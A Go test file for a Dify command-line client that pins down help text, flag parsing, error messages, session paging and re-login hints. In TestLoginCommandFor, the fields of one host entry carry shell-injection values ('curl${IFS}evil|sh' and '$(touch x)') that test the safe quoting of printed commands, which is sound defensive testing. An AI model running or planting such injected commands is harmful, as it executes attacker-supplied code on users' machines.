package main

// commands_test.go: the rough edges a newcomer hit in the first hour
// (issue 12), each pinned as the user sees it.

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
)

// Item 8: help spells each flag as the seed writes it.
func TestHelpSpellsFlagsAsTheSeed(t *testing.T) {
	e := newCLIEnv(t)
	for _, c := range []struct {
		cmd  []string
		want []string
	}{
		{[]string{"auth", "list"}, []string{"  -o, --output <format>  "}},
		{[]string{"auth", "devices", "list"}, []string{"  --limit <n>  ", "  --page <n>   ", "  --json       "}},
		{[]string{"auth", "devices", "revoke"}, []string{"  -y, --yes   ", "  --all       "}},
		{[]string{"use", "account"}, []string{"  --email <email>  "}},
		{[]string{"use", "host"}, []string{"  --domain <host>  "}},
		{[]string{"auth", "login"}, []string{"  --host <url>  "}},
	} {
		r := e.run(append(c.cmd, "--help")...)
		wantExit(t, r, 0)
		for _, w := range c.want {
			if !strings.Contains(r.stdout, w) {
				t.Errorf("%v --help lacks %q:\n%s", c.cmd, w, r.stdout)
			}
		}
		if strings.Contains(r.stdout, "--o ") || strings.Contains(r.stdout, "-output") && !strings.Contains(r.stdout, "--output") || strings.Contains(r.stdout, "<string>") {
			t.Errorf("%v --help leaks the flag package's spelling:\n%s", c.cmd, r.stdout)
		}
	}
}

// Item 8: every spelling a kubectl user types selects the format.
func TestOutputFlagSpellings(t *testing.T) {
	e := newCLIEnv(t)
	e.writeHosts(fixture(t, "official.yml"))
	want := e.run("auth", "list", "-o", "json")
	wantExit(t, want, 0)
	if !strings.HasPrefix(want.stdout, "{\n  \"contexts\": [") {
		t.Fatalf("-o json:\n%s", want)
	}
	for _, args := range [][]string{{"-ojson"}, {"-o=json"}, {"--output", "json"}, {"--output=json"}} {
		r := e.run(append([]string{"auth", "list"}, args...)...)
		wantExit(t, r, 0)
		if r.stdout != want.stdout {
			t.Errorf("%v printed\n%s", args, r.stdout)
		}
	}
	r := e.run("auth", "list", "-oname")
	wantExit(t, r, 0)
	if strings.Contains(r.stdout, "HOST") || r.stdout == "" {
		t.Fatalf("-oname:\n%s", r)
	}
}

// Items 6 and 8: a flag problem is exit 2 with the usage line, and names
// the flag as the user knows it.
func TestFlagProblemsExit2WithUsage(t *testing.T) {
	e := newCLIEnv(t)
	e.writeHosts(fixture(t, "official.yml"))
	for _, c := range []struct {
		args []string
		msg  string
	}{
		{[]string{"auth", "list", "-o"}, "usage_missing_arg: flag --output expects a value\nhint: usage: difyctl auth list [-o json|yaml|name]\n"},
		{[]string{"use", "account", "--email"}, "usage_missing_arg: flag --email expects a value\nhint: usage: difyctl use account [--email <email>]\n"},
		{[]string{"auth", "devices", "list", "--limit"}, "usage_missing_arg: flag --limit expects a value\nhint: usage: difyctl auth devices list [--json] [--page <n>] [--limit <n>]\n"},
		{[]string{"auth", "whoami", "--json=maybe"}, "usage_invalid_flag: invalid value \"maybe\" for --json: want true or false\nhint: usage: difyctl auth whoami [--json]\n"},
		{[]string{"auth", "devices", "list", "--limit", "abc"}, "usage_invalid_flag: --limit: \"abc\" is not a number\nhint: pass an integer; usage: difyctl auth devices list [--json] [--page <n>] [--limit <n>]\n"},
	} {
		r := e.run(c.args...)
		wantExit(t, r, 2)
		if r.stderr != c.msg || r.stdout != "" {
			t.Errorf("%v:\n%s", c.args, r)
		}
	}
	// --json=false is a real value, not an unknown flag.
	r := e.run("auth", "whoami", "--json=false")
	wantExit(t, r, 0)
	if strings.HasPrefix(r.stdout, "{") {
		t.Fatalf("--json=false printed JSON: %q", r.stdout)
	}
	// An unknown flag stays a parser error (exit 1, as in the official
	// client) and shows the
	// usage line too.
	r = e.run("auth", "list", "-x")
	wantExit(t, r, 1)
	if !strings.Contains(r.stderr, "unknown flag: -x\n") || !strings.Contains(r.stderr, "Usage: difyctl auth list [-o json|yaml|name]\n") {
		t.Fatalf("unknown flag:\n%s", r)
	}
}

// Errors print as the JSON envelope when the flags, as parsed, ask for
// JSON: every spelling the flag package reads (--json=1, -output json,
// the last of two), and not a "--json" that is another flag's value or a
// flag the command lacks.
func TestErrorsAsJSONFollowTheParsedFlags(t *testing.T) {
	e := newCLIEnv(t)
	for _, args := range [][]string{
		{"auth", "whoami", "--json=1"},
		{"auth", "whoami", "--json=T"},
		{"auth", "status", "--json=false", "--json"},
		{"auth", "devices", "list", "-json=true", "--limit"},
	} {
		r := e.run(args...)
		if !strings.HasPrefix(r.stderr, `{"error":{"code":`) {
			t.Errorf("%v: want the JSON envelope:\n%s", args, r)
		}
	}
	e.writeHosts("{not yaml\n")
	for _, args := range [][]string{{"auth", "list", "-output", "json"}, {"auth", "list", "-output=json"}} {
		r := e.run(args...)
		wantExit(t, r, 1)
		if !strings.HasPrefix(r.stderr, `{"error":{"code":"config_invalid"`) {
			t.Errorf("%v: want the JSON envelope:\n%s", args, r)
		}
	}
	for _, args := range [][]string{
		{"auth", "whoami", "--json", "--json=false"},
		{"auth", "devices", "list", "--limit", "--json"},
		{"auth", "devices", "revoke", "--all=maybe", "--json"},
		{"auth", "list", "-o", "yaml", "-o=name", "x", "--", "-ojson"},
	} {
		r := e.run(args...)
		if r.code == 0 || strings.Contains(r.stderr, `{"error"`) || !strings.Contains(r.stderr, ": ") {
			t.Errorf("%v: want a human error:\n%s", args, r)
		}
	}
}

// Item 1: a target together with --all revokes nothing.
func TestRevokeTargetWithAllIsUsageError(t *testing.T) {
	f, e, _ := signedIn(t)
	ids := f.seed("tester@dify.ai", 0, "old laptop", "build box")
	r := e.run("auth", "devices", "revoke", "old laptop", "--all")
	wantExit(t, r, 2)
	if !strings.Contains(r.stderr, "pass a target or --all, not both") || r.stdout != "" {
		t.Fatalf("target + --all:\n%s", r)
	}
	for _, id := range ids {
		if !f.tokenByID(id).Live {
			t.Fatal("a session was revoked")
		}
	}
}

// Items 9 and 10: the table shows UTC seconds and says on stderr that
// there are more pages; stdout and --json stay as they were.
func TestDevicesListPagingLineAndTimes(t *testing.T) {
	f, e, _ := signedIn(t)
	f.seed("tester@dify.ai", 29)
	r := e.run("auth", "devices", "list")
	wantExit(t, r, 0)
	if withoutTransportWarning(r.stderr) != "showing 1–20 of 30; next: --page 2\n" {
		t.Fatalf("paging line: %q", withoutTransportWarning(r.stderr))
	}
	lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	if len(lines) != 21 {
		t.Fatalf("stdout has %d lines:\n%s", len(lines), r.stdout)
	}
	stamp := regexp.MustCompile(`  \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ( |$)`)
	fraction := regexp.MustCompile(`:\d\d\.\d`)
	for _, l := range lines[1:] {
		if !stamp.MatchString(l) || fraction.MatchString(l) {
			t.Fatalf("timestamp not UTC to the second: %q", l)
		}
	}
	r = e.run("auth", "devices", "list", "--page", "2", "--limit", "7")
	wantExit(t, r, 0)
	if withoutTransportWarning(r.stderr) != "showing 8–14 of 30; next: --page 3 --limit 7\n" {
		t.Fatalf("paging line: %q", withoutTransportWarning(r.stderr))
	}
	r = e.run("auth", "devices", "list", "--page", "2")
	wantExit(t, r, 0)
	if withoutTransportWarning(r.stderr) != "" {
		t.Fatalf("last page has a paging line: %q", withoutTransportWarning(r.stderr))
	}
	r = e.run("auth", "devices", "list", "--json")
	wantExit(t, r, 0)
	if withoutTransportWarning(r.stderr) != "" || !regexp.MustCompile(`"created_at":"[^"]*\.\d+Z"`).MatchString(r.stdout) {
		t.Fatalf("--json must pass server values through, with no paging line:\n%s", r)
	}
}

func TestTableTime(t *testing.T) {
	for in, want := range map[string]string{
		"2026-12-02T08:35:04.236251Z":      "2026-12-02T08:35:04Z",
		"2026-06-02T11:14:31.5+02:00":      "2026-06-02T09:14:31Z",
		"2026-06-02T09:14:31.123456+00:00": "2026-06-02T09:14:31Z",
		"2026-06-02T09:14:31":              "2026-06-02T09:14:31Z",
		"":                                 "",
		"yesterday":                        "yesterday",
	} {
		if got := tableTime(in); got != want {
			t.Errorf("tableTime(%q) = %q, want %q", in, got, want)
		}
	}
}

// Item 11: a web server that is not Dify (python3 -m http.server, a
// front-end that serves its index page everywhere) is named as such, with
// the URL tried; the exit codes stay the seed's.
func TestNonDifyHostIsNamed(t *testing.T) {
	mode := "pyserver"
	var mu sync.Mutex
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		m := mode
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch {
		case m == "spa":
			io.WriteString(w, "<!doctype html><html><head><title>My App</title></head><body></body></html>")
		case r.Method == http.MethodPost:
			w.WriteHeader(http.StatusNotImplemented)
			io.WriteString(w, "<html><head><title>Error response</title></head><body><p>Error code: 501</p></body></html>")
		default:
			w.WriteHeader(http.StatusNotFound)
			io.WriteString(w, "<html><head><title>Error response</title></head><body><p>Error code: 404</p></body></html>")
		}
	}))
	t.Cleanup(srv.Close)
	e := newCLIEnv(t)
	tried := srv.URL + "/openapi/v1/oauth/device/code"

	r := e.run("auth", "login", "--host", srv.URL, "--insecure", "--no-browser")
	wantExit(t, r, 1)
	if !strings.Contains(r.stderr, "server_5xx: "+srv.URL+" does not look like a Dify host: POST "+tried+" answered HTTP 501 with an HTML page\n") ||
		!strings.Contains(r.stderr, "hint: check the URL") || strings.Contains(r.stderr, "retry later") || r.stdout != "" {
		t.Fatalf("HTML 501:\n%s", r)
	}

	mu.Lock()
	mode = "spa"
	mu.Unlock()
	r = e.run("auth", "login", "--host", srv.URL+"/dify", "--insecure", "--no-browser")
	wantExit(t, r, 1)
	if !strings.Contains(r.stderr, srv.URL+"/dify does not look like a Dify host: POST "+srv.URL+"/dify/openapi/v1/oauth/device/code answered HTTP 200 with an HTML page\n") {
		t.Fatalf("HTML 200:\n%s", r)
	}

	// A Dify with its OpenAPI disabled answers 404 with no body: still the
	// seed's unsupported_endpoint (exit 6), not "not Dify".
	f := fastFake(t)
	f.scenario(map[string]any{"name": "disabled"})
	r = e.run("auth", "login", "--host", f.url, "--insecure", "--no-browser")
	wantExit(t, r, 6)
	if strings.Contains(r.stderr, "does not look like") {
		t.Fatalf("disabled Dify:\n%s", r)
	}
}

// loginAt runs auth login with args against f and approves as email; it
// returns the result and the minted token id.
func loginAt(t *testing.T, e *cliEnv, f *fakeServer, email string, args ...string) (result, string) {
	t.Helper()
	seen := f.pendingCodes()
	cmd, out, errb := e.start(append([]string{"auth", "login", "--no-browser"}, args...)...)
	id := f.approve(f.waitPending(seen), email, "Test Tester", nil)
	return waitResult(t, cmd, out, errb), id
}

// Item 4: the re-login hint is the exact command that works for an http
// host with a path prefix, and run as written it signs in again.
func TestReloginHintIsTheWorkingCommand(t *testing.T) {
	f := fastFake(t, "-base-path", "/dify")
	e := newCLIEnv(t)
	r, current := loginAt(t, e, f, "tester@dify.ai", "--host", f.url+"/dify", "--insecure")
	wantExit(t, r, 0)
	f.ctl("POST", "tokens/expire", map[string]any{"token_id": current}, nil)
	r = e.run("auth", "devices", "list")
	wantExit(t, r, 4)
	want := "difyctl auth login --host " + f.url + "/dify --insecure"
	if !strings.Contains(r.stderr, "hint: run '"+want+"' to sign in again\n") {
		t.Fatalf("hint:\n%s", r)
	}
	// The hint, run as written, signs in again.
	r, _ = loginAt(t, e, f, "tester@dify.ai", strings.Fields(want)[3:]...)
	wantExit(t, r, 0)
	wantExit(t, e.run("auth", "devices", "list"), 0)
	// A bare host means https whatever hosts.yml records (issue 19 item 2):
	// TestLoginHTTPNeedsInsecureWhenRecorded covers it.
}

func TestLoginCommandFor(t *testing.T) {
	for _, c := range []struct {
		e    hostEntry
		want string
	}{
		{hostEntry{Host: "cloud.dify.ai"}, "difyctl auth login --host cloud.dify.ai"},
		{hostEntry{Host: "127.0.0.1:18001", Scheme: "http"}, "difyctl auth login --host http://127.0.0.1:18001 --insecure"},
		{hostEntry{Host: "example.com", Path: "/dify"}, "difyctl auth login --host https://example.com/dify"},
		{hostEntry{Host: "self.signed:8443", InsecureTLS: true}, "difyctl auth login --host self.signed:8443 --insecure"},
		// hosts.yml may have been edited: what the shell would read is quoted.
		{hostEntry{Host: "dify.example.com", Path: "/dify;curl${IFS}evil|sh;#"}, `difyctl auth login --host 'https://dify.example.com/dify;curl${IFS}evil|sh;#'`},
		{hostEntry{Host: "$(touch x)"}, `difyctl auth login --host '$(touch x)'`},
		{hostEntry{Host: "[::1]:8080", Scheme: "http"}, `difyctl auth login --host 'http://[::1]:8080' --insecure`},
	} {
		if got := loginCommandFor(&c.e); got != c.want {
			t.Errorf("%+v: %q, want %q", c.e, got, c.want)
		}
	}
	// A quoted word is not put between the hint's own quotes, which would
	// unquote it for whoever pastes those too.
	for _, c := range []struct {
		e    hostEntry
		want string
	}{
		{hostEntry{Host: "cloud.dify.ai"}, "run 'difyctl auth login --host cloud.dify.ai' to sign in again"},
		{hostEntry{Host: "dify.example.com", Path: "/a;b"}, "run difyctl auth login --host 'https://dify.example.com/a;b' to sign in again"},
	} {
		if got := reloginHint(&c.e); got != c.want {
			t.Errorf("%+v: hint %q, want %q", c.e, got, c.want)
		}
	}
}

// Item 4: the errors that ask to sign in again name the exact command for
// their host where they are made; hints of other errors are left alone.
func TestReloginHintsNameTheCommand(t *testing.T) {
	e := &hostEntry{Host: "127.0.0.1:18001", Scheme: "http"}
	const cmd = "'difyctl auth login --host http://127.0.0.1:18001 --insecure'"
	u := &url.URL{Scheme: "http", Host: e.Host, Path: "/openapi/v1/account"}
	for _, c := range []struct {
		client *apiClient
		status int
		want   string
	}{
		{&apiClient{relogin: reloginHint(e)}, 401, "run " + cmd + " to sign in again"},
		{&apiClient{}, 401, "run 'difyctl auth login' to sign in again"},
		{&apiClient{relogin: reloginHint(e)}, 500, "retry later; if it persists, check the server's logs"},
	} {
		resp := &http.Response{StatusCode: c.status, Header: http.Header{}}
		if got := c.client.statusError(request{method: "GET"}, u, resp, nil).Hint; got != c.want {
			t.Errorf("HTTP %d: hint %q, want %q", c.status, got, c.want)
		}
	}
	s := newSealedTestStore(t)
	os.MkdirAll(s.dir, 0o700)
	os.WriteFile(s.path(), make([]byte, maxSealedFile+1), 0o600)
	_, err := s.get(e.Host, "a@x", loginCommandFor(e))
	if got := wantCode(t, err, "credential_unreadable").Hint; got != "run "+cmd+" to sign in again" {
		t.Errorf("credential_unreadable hint %q", got)
	}
}

const twoHostsNoCurrent = `current_host: a.example
hosts:
  a.example:
    current_account: one@a.example
    accounts:
      one@a.example:
        account:
          id: acct-1
          email: one@a.example
          name: One
  solo.example:
    accounts:
      solo@solo.example:
        account:
          id: acct-2
          email: solo@solo.example
          name: Solo
  many.example:
    accounts:
      x@many.example:
        account:
          id: acct-3
          email: x@many.example
          name: X
      y@many.example:
        account:
          id: acct-4
          email: y@many.example
          name: Y
`

// Item 3: switching to a host never leaves nobody signed in silently.
func TestUseHostMakesTheOnlyAccountActive(t *testing.T) {
	e := newCLIEnv(t)
	e.writeHosts(twoHostsNoCurrent)
	r := e.run("use", "host", "--domain", "solo.example")
	wantExit(t, r, 0)
	if r.stdout != "✓ Active host is now solo.example\n" {
		t.Fatalf("stdout %q", r.stdout)
	}
	r = e.run("auth", "whoami")
	wantExit(t, r, 0)
	if r.stdout != "solo@solo.example (Solo)\n" {
		t.Fatalf("whoami after use host: %s", r)
	}

	r = e.run("use", "host", "--domain", "many.example")
	wantExit(t, r, 0)
	if r.stdout != "✓ Active host is now many.example\n" ||
		!strings.Contains(r.stderr, "no active account on many.example; run 'difyctl use account --email <email>' to pick one of: x@many.example, y@many.example") {
		t.Fatalf("several accounts:\n%s", r)
	}
}

// Item 13: an email typed in another case finds the one stored account.
func TestUseAccountEmailIgnoresCase(t *testing.T) {
	f := fastFake(t)
	e := newCLIEnv(t)
	for _, email := range []string{"tester@dify.ai", "other@dify.ai"} {
		r, _ := loginAt(t, e, f, email, "--host", f.url, "--insecure")
		wantExit(t, r, 0)
	}
	r := e.run("use", "account", "--email", "Tester@Dify.AI")
	wantExit(t, r, 0)
	if r.stdout != "✓ Active account on "+f.host+" is now tester@dify.ai\n" {
		t.Fatalf("case-insensitive email:\n%s", r)
	}
	if !strings.Contains(e.readHosts(), "current_account: tester@dify.ai\n") {
		t.Fatalf("hosts.yml:\n%s", e.readHosts())
	}

	// Two stored emails that differ only in case: the typed one must be exact.
	h := &hostEntry{Accounts: []*contextEntry{{Email: "Ann@x.io"}, {Email: "ann@x.io"}}}
	if c := findAccount(h, "ANN@x.io"); c != nil {
		t.Fatalf("ambiguous case-insensitive match chose %s", c.Email)
	}
	if c := findAccount(h, "ann@x.io"); c == nil || c.Email != "ann@x.io" {
		t.Fatal("an exact email must win")
	}
}

// Item 13 (revoke): a label typed in another case finds the session.
func TestRevokeTargetIgnoresCase(t *testing.T) {
	f, e, _ := signedIn(t)
	ids := f.seed("tester@dify.ai", 0, "Old Laptop")
	r := e.run("auth", "devices", "revoke", "OLD LAPTOP")
	wantExit(t, r, 0)
	if r.stdout != "✓ Revoked 1 session(s)\n" || f.tokenByID(ids[0]).Live {
		t.Fatalf("revoke OLD LAPTOP:\n%s", r)
	}
}
